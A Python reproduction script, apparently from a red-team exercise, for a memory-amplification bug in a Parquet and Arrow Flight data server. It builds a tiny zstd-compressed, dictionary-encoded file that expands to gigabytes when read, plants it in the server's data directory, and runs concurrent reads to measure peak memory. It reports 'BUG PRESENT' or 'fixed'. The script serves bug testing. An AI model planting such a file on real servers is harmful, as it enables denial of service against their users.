#!/usr/bin/env python3
import base64, json, os, shutil, subprocess, sys, tempfile, time
import pyarrow as pa, pyarrow.parquet as pq, pyarrow.flight as fl
QUIVER = os.environ.get("QUIVER", "/work/redteam4/quiver")
TMP = tempfile.mkdtemp(prefix="qrepro_")
DATA = os.path.join(TMP, "data"); os.makedirs(DATA)
LOG = os.path.join(TMP, "server.log")

def start(port, *extra):
    p = subprocess.Popen([QUIVER, "serve", "--data-dir", DATA, "--addr", f"127.0.0.1:{port}", *extra],
                         stdout=subprocess.PIPE, stderr=open(LOG, "w"), text=True)
    assert "serving" in p.stdout.readline()
    return p, fl.connect(f"grpc://127.0.0.1:{port}")

def stop(p):
    if p.poll() is None:
        p.terminate()
        try: p.wait(10)
        except subprocess.TimeoutExpired: p.kill(); p.wait()

def plant(keys, data, version="v0"):
    prof = os.path.join(DATA, *keys.split("/"))
    os.makedirs(os.path.join(prof, version), exist_ok=True)
    with open(os.path.join(prof, version, "0.parquet"), "wb") as f: f.write(data)
    with open(os.path.join(prof, "manifest.json"), "w") as f: json.dump({"latest_data_dir": version}, f, indent=4)

def parquet_bytes(table, **kw):
    fn = os.path.join(TMP, "w.parquet"); pq.write_table(table, fn, **kw)
    return open(fn, "rb").read()

def varint(n):
    out = bytearray()
    while True:
        b = n & 0x7f; n >>= 7
        if n: out.append(b | 0x80)
        else: out.append(b); return bytes(out)

def read_varint(b, i):
    n = s = 0
    while True:
        c = b[i]; i += 1; n |= (c & 0x7f) << s; s += 7
        if not c & 0x80: return n, i

def set_kv(data, key, newval):
    """Replace the value of the footer key-value entry `key` by newval."""
    flen = int.from_bytes(data[-8:-4], "little"); fs = len(data) - 8 - flen
    footer = data[fs:-8]
    k = footer.find(varint(len(key)) + key); assert k >= 0
    i = k + len(varint(len(key))) + len(key); assert footer[i] == 0x18
    vlen, j = read_varint(footer, i + 1)
    nf = footer[:i + 1] + varint(len(newval)) + newval + footer[j + vlen:]
    return data[:fs] + nf + len(nf).to_bytes(4, "little") + b"PAR1"

def doget(c, ticket, timeout=60):
    if isinstance(ticket, dict): ticket = json.dumps(ticket)
    return c.do_get(fl.Ticket(ticket.encode()), options=fl.FlightCallOptions(timeout=timeout)).read_all()

def log_text():
    return open(LOG).read()
# r05: memory amplification from a tiny planted file. A ~800-byte Parquet file
# (one string column, dictionary-encoded, the dictionary holding one 16 MiB
# value of 'a' compressed by zstd, 100 rows all pointing at it) makes the
# server materialise every value: ~1.6 GB of string data per read, although
# DoGet sends 4 MiB messages. Two concurrent reads of this 1 KB file drive the
# server's RSS past 3 GB (--memory-limit auto is 256 MiB). Anyone who can
# drop a pyrosome file into the data directory (or an unlucky user with very
# repetitive long strings) can exhaust the server's memory.
# Exit 1 while the peak RSS passes 1 GiB.
import threading
bad = 0
p, c = start(int(os.environ.get("PORT", "19155")))
peak = [0]; done = [False]
def mon():
    while not done[0]:
        try:
            for l in open(f"/proc/{p.pid}/status"):
                if l.startswith("VmRSS"): peak[0] = max(peak[0], int(l.split()[1]) * 1024)
        except FileNotFoundError: break
        time.sleep(0.02)
try:
    big = "a" * (16 << 20)
    arr = pa.DictionaryArray.from_arrays(pa.array([0] * 100, pa.int32()), pa.array([big], pa.string()))
    data = parquet_bytes(pa.table({"s": arr}), compression="zstd", store_schema=False)
    print("file size:", len(data), "bytes; decoded values:", 100 * 16, "MiB")
    plant("r05/bomb", data)
    threading.Thread(target=mon, daemon=True).start()
    def reader():
        try:
            n = 0
            for ch in c.do_get(fl.Ticket(b"r05/bomb"), options=fl.FlightCallOptions(timeout=120)):
                n += ch.data.num_rows
        except Exception as e:
            print("read error:", str(e)[:120])
    ts = [threading.Thread(target=reader) for _ in range(2)]
    [t.start() for t in ts]; [t.join() for t in ts]
    done[0] = True
    print(f"peak server RSS during 2 concurrent reads: {peak[0] / 2**30:.2f} GiB; alive: {p.poll() is None}")
    bad = peak[0] > 2**30 or p.poll() is not None
finally:
    done[0] = True
    stop(p); shutil.rmtree(TMP, ignore_errors=True)
print("BUG PRESENT" if bad else "fixed")
sys.exit(1 if bad else 0)
